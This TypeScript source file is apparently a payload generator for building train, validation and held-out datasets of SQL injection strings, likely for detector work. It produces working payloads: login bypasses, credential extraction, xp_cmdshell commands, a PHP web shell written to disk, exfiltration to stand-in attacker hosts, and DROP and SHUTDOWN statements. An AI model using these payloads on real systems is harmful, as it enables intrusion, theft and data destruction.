/**
 * SQL injection payloads from a grammar written for Helios: an injection point (string, numeric,
 * LIKE or JSON context), a body (tautology, UNION, stacked query, time and boolean blind,
 * error-based, out-of-band, probing, login bypass, inline query) in the dialects of MySQL,
 * PostgreSQL, SQL Server, Oracle and SQLite, and a tail (comments, null bytes), then optional
 * filter evasions (case, comment spaces, other whitespace, parentheses, encodings). Held-out
 * branches (see Branches) are functions, tables and shapes left for validation and test.
 */
import { type Branches, type Chooser, hexLiteral } from "./grammar";

const CONTEXTS = [
  "",
  "1",
  "2",
  "10",
  "-1",
  "0",
  "999",
  "admin",
  "test",
  "x",
  "abc",
  "1337",
  "john",
  "99999",
  "1.5",
  "user@example.com",
  "2024-01-01",
  "shoes",
];
const CLOSERS: Branches<string> = {
  train: ["'", '"', "')", '")', "'))", "1'", "1)", "1))", "", "`", "')))", '"))', "-1'", "1')", "')-- ", ")"],
  valid: ["`)", "'||'", '"))) '],
  held: ['")) ', "%' ", "') ", "'\""],
};
const SPACE: Branches<string> = {
  train: [" ", "/**/", "+", "%20", "\t", "\n", "%0a", "%0b", "%0c", "%a0", "/**//", "%20%20"],
  valid: ["/*foo*/", "%0d", "\r"],
  held: ["/*x*/", "%09", "%0d%0a"],
};
const COMMENTS: Branches<string> = {
  train: [
    "--",
    "-- -",
    "#",
    "/*",
    ";--",
    "-- ",
    ";%00",
    "%23",
    "--+",
    "",
    "-- x",
    "#-",
    "%23%0a",
    "%00",
    "--%20",
    ";",
  ],
  valid: ["-- -+", "%2D%2D%20", "`"],
  held: ["--+-", ";#", "%2d%2d", "/*!*/"],
};
/** Comparisons that are always true, written many ways (a few spellings are held out). */
const TAUTOLOGIES: Branches<(c: Chooser) => string> = {
  train: [
    (c) => {
      let n = c.int(0, 99);
      if (n === 5) n = 7; // "5=5" is a held-out spelling
      return `${n}=${n}`;
    },
    (c) => {
      const s = c.pick(["1", "a", "x", "y", "k", "q", "2", "abc", "t"]);
      return c.pick([`'${s}'='${s}`, `'${s}'='${s}'`, `"${s}"="${s}`]);
    },
    (c) => `${c.int(2, 50)}>${c.int(0, 1)}`,
    (c) => `${c.int(0, 1)}<${c.int(2, 50)}`,
    () => "true",
    () => "1",
    () => "1 like 1",
    () => "3-2=1",
    (c) => `'1'<>'${c.int(2, 9)}`,
    () => "not false",
    () => "1=1 and 1=1",
    () => "ascii('a')=97",
    () => "1 is not null",
    () => "2 != 3",
    () => "'a' rlike 'a'",
    () => "1 regexp 1",
    () => "'ab' like 'a%'",
    () => "1<>2",
    () => "(1)=(1)",
    () => "char(65)='A'",
    () => "length('ab')=2",
    () => "'x' in ('x')",
    () => "exists(select 1)",
  ],
  valid: [() => "'c' sounds like 'c'", () => "7 not between 1 and 5", () => "2 in (2)"],
  held: [() => "'b'='b", () => "5=5", () => "'z' like 'z", () => "4 between 1 and 5", () => "1 in (1,2)"],
};
const TABLES: Branches<string> = {
  train: [
    "users",
    "admin",
    "accounts",
    "members",
    "customers",
    "information_schema.tables",
    "information_schema.schemata",
    "mysql.user",
    "sysobjects",
    "syscolumns",
    "master..sysdatabases",
    "pg_user",
    "pg_shadow",
    "pg_database",
    "login",
    "user",
    "passwords",
    "dual",
    "all_tables",
    "all_users",
    "user_tables",
    "v$version",
    "sqlite_temp_master",
    "orders",
    "products",
    "wp_users",
    "tbl_admin",
  ],
  valid: ["sys.databases", "dba_users", "pg_tables"],
  held: ["employees", "sys.tables", "information_schema.columns", "sqlite_master", "staff"],
};
const COLUMNS: Branches<string> = {
  train: [
    "username",
    "password",
    "user",
    "pass",
    "email",
    "table_name",
    "column_name",
    "name",
    "passwd",
    "login",
    "id",
    "credit_card",
    "user_pass",
    "user_login",
    "usename",
    "passwd_hash",
    "token",
    "api_key",
    "ssn",
    "admin",
  ],
  valid: ["salt", "password_digest", "datname"],
  held: ["pwd", "hash", "secret", "schema_name"],
};
const VALUE_FUNCTIONS: Branches<string> = {
  train: [
    "@@version",
    "version()",
    "user()",
    "database()",
    "current_user",
    "system_user",
    "@@hostname",
    "schema()",
    "banner from v$version",
    "db_name()",
    "sqlite_version()",
    "current_database()",
    "session_user",
    "@@datadir",
    "@@basedir",
    "@@tmpdir",
    "host_name()",
    "user_name()",
    "is_srvrolemember('sysadmin')",
    "current_setting('data_directory')",
    "inet_server_addr()",
    "sys_context('userenv','current_user')",
    "global_name from global_name",
    "@@spid",
    "current_schema()",
    "pg_read_file('/etc/passwd')",
  ],
  valid: ["@@port", "sys.database_name", "ora_database_name from dual"],
  held: ["@@servername", "suser_name()", "version from v$instance", "connection_id()"],
};
const STACKED: Branches<(c: Chooser) => string> = {
  train: [
    (c) => `drop table ${c.branch(TABLES)}`,
    (c) => `drop database ${c.pick(["test", "shop", "app"])}`,
    (c) => `delete from ${c.branch(TABLES)}`,
    (c) => `insert into ${c.branch(TABLES)} values ('hacker','${c.pick(["pass", "123", "x"])}')`,
    (c) => `update ${c.branch(TABLES)} set ${c.branch(COLUMNS)}='x' where 1=1`,
    () => "shutdown",
    () => "shutdown with nowait",
    (c) => `exec master..xp_cmdshell '${c.pick(["dir", "whoami", "ping 10.0.0.1", "net user"])}'`,
    (c) => `exec xp_cmdshell '${c.pick(["dir c:\\", "ipconfig", "type c:\\boot.ini"])}'`,
    (c) => `exec master..xp_dirtree '\\\\${c.pick(["x.example", "10.0.0.1"])}\\a'`,
    (c) => `select ${c.branch(VALUE_FUNCTIONS)}`,
    (c) => `select pg_sleep(${c.int(1, 20)})`,
    (c) => `truncate table ${c.branch(TABLES)}`,
    () => "declare @q varchar(8000) select @q = 0x73656c656374 exec(@q)",
    (c) => `create user ${c.pick(["hacker", "evil", "x"])} identified by 'p'`,
    () => "alter table users add admin int",
    () => "create table x(t text); copy x from '/etc/passwd'",
    () => `set @a=${hexLiteral("select 1")};prepare s from @a;execute s`,
    () => "exec('sel'+'ect 1')",
    (c) => `waitfor delay '0:0:${c.int(1, 30)}'`,
    () => "begin dbms_lock.sleep(5); end",
  ],
  valid: [() => "attach database '/var/www/x.php' as x", (c) => `rename table ${c.branch(TABLES)} to x`],
  held: [
    () => "exec sp_configure 'show advanced options',1",
    (c) => `grant all privileges on *.* to '${c.pick(["x", "evil"])}'@'%'`,
    () => "copy (select '') to program 'id'",
  ],
};
const SLEEPS: Branches<(n: number) => string> = {
  train: [
    (n) => `sleep(${n})`,
    (n) => `benchmark(${n}000000,md5(1))`,
    (n) => `benchmark(${n}000000,md5('a'))`,
    (n) => `(select sleep(${n}))`,
    (n) => `(select * from (select(sleep(${n})))a)`,
    (n) => `if(1=1,sleep(${n}),0)`,
    (n) => `pg_sleep(${n})`,
    (n) => `(select pg_sleep(${n}))`,
    (n) => `(case when 1=1 then pg_sleep(${n}) else pg_sleep(0) end)`,
    (n) => `dbms_lock.sleep(${n})`,
    (n) => `sleep(${n})#`,
    (n) => `1=(select 1 from pg_sleep(${n}))`,
    (n) => `(select count(*) from all_objects, all_objects)>${n}`,
  ],
  valid: [(n) => `get_lock('a',${n})`, (n) => `elt(1,sleep(${n}))`],
  held: [
    (n) => `dbms_pipe.receive_message(('a'),${n})`,
    (n) => `randomblob(${n}00000000)`,
    (n) => `benchmark(${n}000000,sha1('x'))`,
  ],
};
const ERROR_FUNCTIONS: Branches<(v: string) => string> = {
  train: [
    (v) => `extractvalue(1,concat(0x7e,(select ${v}),0x7e))`,
    (v) => `extractvalue(rand(),concat(0x3a,(select ${v})))`,
    (v) => `convert(int,(select ${v}))`,
    (v) => `cast((select ${v}) as int)`,
    (v) => `cast(${v} as numeric)`,
    (v) =>
      `(select 1 from(select count(*),concat((select ${v}),floor(rand(0)*2))x from information_schema.tables group by x)a)`,
    (v) => `exp(~(select * from (select ${v})a))`,
    (v) => `polygon((select * from (select ${v})a))`,
    (v) => `gtid_subset(concat(0x7e,(select ${v})),1)`,
    (v) => `json_keys((select convert((select ${v}) using utf8)))`,
    (v) => `utl_inaddr.get_host_name((select ${v}))`,
    (v) => `1=convert(int,${v})`,
    (v) => `(select ${v})::int`,
  ],
  valid: [(v) => `multipoint((select * from (select ${v})a))`, (v) => `xmltype((select ${v}))`],
  held: [(v) => `updatexml(1,concat(0x7e,(select ${v})),1)`, (v) => `ctxsys.drithsx.sn(1,(select ${v}))`],
};

function blank(c: Chooser): string {
  return c.branch(SPACE);
}

/** Joins words with one evasion style for the whole payload. */
function words(c: Chooser, parts: readonly string[]): string {
  const space = c.chance(0.7) ? " " : blank(c);
  return parts.filter((p) => p.length > 0).join(space);
}

function keyword(c: Chooser, word: string): string {
  if (c.chance(0.15)) return c.mixCase(word);
  if (c.chance(0.05)) return `/*!${word}*/`;
  if (c.chance(0.03)) return `/*!50000${word}*/`;
  return c.chance(0.3) ? word.toUpperCase() : word;
}

function columnsList(c: Chooser): string {
  const count = c.int(1, 8);
  const filler = c.pick(["null", "1", "'a'", "0x41", "NULL"]);
  const items = Array.from({ length: count }, (_, i) => (c.chance(0.5) ? filler : String(i + 1)));
  items[c.int(0, count - 1)] = c.pick([
    c.branch(VALUE_FUNCTIONS),
    `concat(${c.branch(COLUMNS)},0x3a,${c.branch(COLUMNS)})`,
    `concat_ws(0x3a,${c.branch(COLUMNS)},${c.branch(COLUMNS)})`,
    `group_concat(${c.branch(COLUMNS)})`,
    `string_agg(${c.branch(COLUMNS)},',')`,
    c.branch(COLUMNS),
    `load_file('/etc/passwd')`,
    `${c.branch(COLUMNS)}||':'||${c.branch(COLUMNS)}`,
    `${c.branch(COLUMNS)}+':'+${c.branch(COLUMNS)}`,
    `unhex(hex(${c.branch(COLUMNS)}))`,
  ]);
  return items.join(",");
}

/** The families of the grammar; each draws one payload body (without context or tail). */
const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
  tautology: (c) =>
    words(c, [keyword(c, c.pick(["or", "or", "and", "||", "OR", "xor", "&&"])), c.branch(TAUTOLOGIES)(c)]),
  parenthesised: (c) =>
    // No spaces at all: parentheses separate the words.
    `${keyword(c, c.pick(["or", "and", "||"]))}(${c.pick(["1", "'1'", "true"])})${c.pick(["=", "like", "<>"])}(${c.pick(["1", "'1'", "true", "2"])})`,
  union: (c) =>
    words(c, [
      keyword(c, "union"),
      c.chance(0.4) ? keyword(c, c.pick(["all", "distinct", "distinctrow"])) : "",
      keyword(c, "select"),
      columnsList(c),
      c.chance(0.5) ? `${keyword(c, "from")} ${c.branch(TABLES)}` : "",
    ]),
  splitKeywords: (c) =>
    // Filters that delete one keyword occurrence leave the other: uniunionon.
    c.pick([
      `${c.pick(["uni/**/on", "UNunionION", "uniunionon", "/*!union*/"])} ${c.pick(["sel/**/ect", "SELselectECT", "/*!select*/", "selselectect"])} ${columnsList(c)}`,
      `${c.pick(["%55nion", "u%6eion", "%75%6e%69%6f%6e"])} ${c.pick(["%53elect", "sel%65ct", "%73%65%6c%65%63%74"])} ${columnsList(c)}`,
    ]),
  stacked: (c) => `;${c.chance(0.5) ? " " : ""}${c.branch(STACKED)(c)}`,
  timeBlind: (c) => {
    const n = c.int(1, 30);
    if (c.chance(0.25)) return words(c, [";", keyword(c, "waitfor"), keyword(c, "delay"), `'0:0:${n}'`]);
    return words(c, [keyword(c, c.pick(["and", "or", "and", "||", "&&"])), c.branch(SLEEPS)(n)]);
  },
  errorBased: (c) =>
    words(c, [keyword(c, c.pick(["and", "or", "||"])), c.branch(ERROR_FUNCTIONS)(c.branch(VALUE_FUNCTIONS))]),
  booleanBlind: (c) => {
    const sub = `(select ${c.branch(COLUMNS)} from ${c.branch(TABLES)} limit 1)`;
    const probe = c.pick([
      `ascii(substring(${sub},${c.int(1, 20)},1))>${c.int(32, 126)}`,
      `ord(mid(${sub},${c.int(1, 20)},1))=${c.int(32, 126)}`,
      `substr(${c.branch(VALUE_FUNCTIONS)},1,1)='${c.int(1, 9)}'`,
      `length(${c.branch(VALUE_FUNCTIONS)})>${c.int(1, 40)}`,
      `(select count(*) from ${c.branch(TABLES)})>0`,
      `mid(${c.branch(VALUE_FUNCTIONS)},1,1)=char(${c.int(48, 57)})`,
      `exists(select * from ${c.branch(TABLES)})`,
      `1=${c.pick(["1", "2"])}`,
      `(case when (1=1) then 1 else 0 end)=1`,
      `unicode(substring(${c.branch(VALUE_FUNCTIONS)},1,1))>${c.int(32, 126)}`,
      `${c.branch(COLUMNS)} like '${c.pick(["a", "b", "ad"])}%'`,
      `substring(${c.branch(VALUE_FUNCTIONS)},1,1)=0x${c.int(30, 39)}`,
    ]);
    return words(c, [keyword(c, c.pick(["and", "or", "and", "&&"])), probe]);
  },
  probing: (c) =>
    c.pick([
      words(c, [keyword(c, "order"), keyword(c, "by"), String(c.int(1, 30))]),
      words(c, [keyword(c, "group"), keyword(c, "by"), c.branch(COLUMNS), keyword(c, "having"), "1=1"]),
      words(c, [keyword(c, "having"), "1=1"]),
      words(c, [keyword(c, "procedure"), "analyse()"]),
      words(c, ["and", "1=0", keyword(c, "union"), keyword(c, "select"), columnsList(c)]),
      words(c, [
        keyword(c, "order"),
        keyword(c, "by"),
        `(case when (1=1) then 1 else ${c.branch(COLUMNS)} end)`,
      ]),
      words(c, [keyword(c, "limit"), "1", keyword(c, "offset"), String(c.int(0, 20))]),
      words(c, [keyword(c, "limit"), `1,${c.int(1, 9)}`]),
    ]),
  outOfBand: (c) =>
    c.pick([
      words(c, [
        keyword(c, "and"),
        `(select load_file(concat('\\\\\\\\',(select ${c.branch(VALUE_FUNCTIONS)}),'.attacker.net\\\\a')))`,
      ]),
      words(c, [";", keyword(c, "exec"), `master..xp_dirtree '\\\\${c.pick(["x.example", "10.0.0.1"])}\\a'`]),
      words(c, [
        keyword(c, "union"),
        keyword(c, "select"),
        `utl_http.request('http://${c.pick(["evil.example", "10.0.0.1"])}/'||(select ${c.branch(COLUMNS)} from ${c.branch(TABLES)} where rownum=1)) from dual`,
      ]),
      words(c, [
        keyword(c, "and"),
        `(select dbms_ldap.init('${c.pick(["x.example", "evil.example"])}',80) from dual) is not null`,
      ]),
    ]),
  bypass: (c) =>
    c.pick([
      `${c.pick(["admin", "administrator", "root", "user", "", "sa", "guest"])}'${c.pick(["--", " --", "#", "/*", " or '1'='1", " or 1=1--", "='", " -- -", ")--"])}`,
      `' or ''='`,
      `'='`,
      `'or'1'='1`,
      `" or ""="`,
      `') or ('a'='a`,
      `' or 1=1 limit 1 --`,
      `1' or '1'='1'))/*`,
      `' or username like '%`,
      `admin' and password like '%`,
      `admin'/*`,
      `' or true--`,
      `'-'`,
      `' '`,
      `'&'`,
      `'^'`,
      `'*'`,
      `' or 'x'='x`,
      `" or true--`,
      `admin") or ("1"="1`,
      `' || 1=1 --`,
    ]),
  inlineQuery: (c) =>
    c.pick([
      `${keyword(c, "select")} * ${keyword(c, "from")} ${c.branch(TABLES)} ${keyword(c, "where")} ${c.branch(COLUMNS)}='${c.pick(["admin", "x", "1"])}'`,
      `${keyword(c, "select")} ${c.branch(COLUMNS)},${c.branch(COLUMNS)} ${keyword(c, "from")} ${c.branch(TABLES)}`,
      `${keyword(c, "select")} ${c.branch(VALUE_FUNCTIONS)}`,
      `${keyword(c, "insert")} ${keyword(c, "into")} ${c.branch(TABLES)} (${c.branch(COLUMNS)}) ${keyword(c, "values")} ('x')`,
      `${keyword(c, "select")} ${keyword(c, "char")}(${Array.from({ length: c.int(3, 8) }, () => c.int(65, 122)).join(",")})`,
      `${keyword(c, "select")} ${hexLiteral(c.pick(["admin", "root", "passwd"]))}`,
      `${keyword(c, "drop")} ${keyword(c, "table")} ${c.branch(TABLES)}`,
      `${keyword(c, "select")} chr(${c.int(65, 90)})||chr(${c.int(65, 90)})||chr(${c.int(65, 90)})`,
      `(${keyword(c, "select")} ${keyword(c, "top")} 1 ${c.branch(COLUMNS)} ${keyword(c, "from")} ${c.branch(TABLES)})`,
      `${keyword(c, "select")} * ${keyword(c, "from")} ${c.branch(TABLES)} ${keyword(c, "where")} 1=1 ${keyword(c, "order")} ${keyword(c, "by")} 1`,
    ]),
  fileAccess: (c) =>
    c.pick([
      words(c, [
        keyword(c, "union"),
        keyword(c, "select"),
        `load_file('${c.pick(["/etc/passwd", "c:/boot.ini", "/var/www/config.php"])}')`,
      ]),
      words(c, [
        keyword(c, "union"),
        keyword(c, "select"),
        "'<?php system($_GET[c]); ?>'",
        keyword(c, "into"),
        keyword(c, c.pick(["outfile", "dumpfile"])),
        `'/var/www/${c.pick(["shell", "x", "c"])}.php'`,
      ]),
      words(c, [
        ";",
        keyword(c, "select"),
        "utl_http.request('http://evil.example/'||(select user from dual))",
        "from",
        "dual",
      ]),
      words(c, [";", keyword(c, "select"), `pg_read_file('${c.pick(["/etc/passwd", "postgresql.conf"])}')`]),
      words(c, [
        ";",
        keyword(c, "bulk"),
        keyword(c, "insert"),
        c.branch(TABLES),
        keyword(c, "from"),
        `'${c.pick(["c:\\boot.ini", "c:\\windows\\win.ini"])}'`,
      ]),
    ]),
};

/** Families that are whole payloads (no context, closer or tail around them). */
const WHOLE = new Set(["bypass", "inlineQuery"]);

/** Ways a payload reaches the server encoded: a browser form, a URL, a double-decoding proxy, JSON. */
const ENCODINGS: Branches<(payload: string) => string> = {
  train: [
    (p) => encodeURIComponent(p).replaceAll("'", "%27"),
    (p) => encodeURIComponent(p).replaceAll("'", "%27").replaceAll("%20", "+"),
    (p) => p.replaceAll(" ", "+"),
    (p) => p.replaceAll("'", "%27").replaceAll(" ", "%20"),
    (p) => encodeURIComponent(encodeURIComponent(p).replaceAll("'", "%27")),
    (p) => JSON.stringify({ id: p }),
    (p) => JSON.stringify({ username: p, password: "x" }),
    (p) => p.replaceAll("'", "%bf%27"),
    (p) => p.replaceAll("=", "%3d"),
  ],
  valid: [(p) => p.replaceAll("'", "%u0027"), (p) => `{"filter":{"name":${JSON.stringify(p)}}}`],
  held: [],
};

/** The SQL injection families, by name. */
export const SQLI_FAMILIES = Object.keys(FAMILIES);

/** One SQL injection payload of the given family. */
export function sqliPayload(c: Chooser, family: string): string {
  const body = FAMILIES[family]!(c);
  let payload = body;
  if (!WHOLE.has(family)) {
    const context = c.chance(0.6) ? c.pick(CONTEXTS) : "";
    const closer = c.branch(CLOSERS);
    const tail = c.chance(0.7) ? c.branch(COMMENTS) : "";
    const lead = closer.length > 0 && !body.startsWith(";") ? (c.chance(0.8) ? " " : blank(c)) : "";
    payload = `${context}${closer}${lead}${body}${tail && c.chance(0.3) ? " " : ""}${tail}`;
  }
  return c.chance(0.12) ? c.branch(ENCODINGS)(payload) : payload;
}
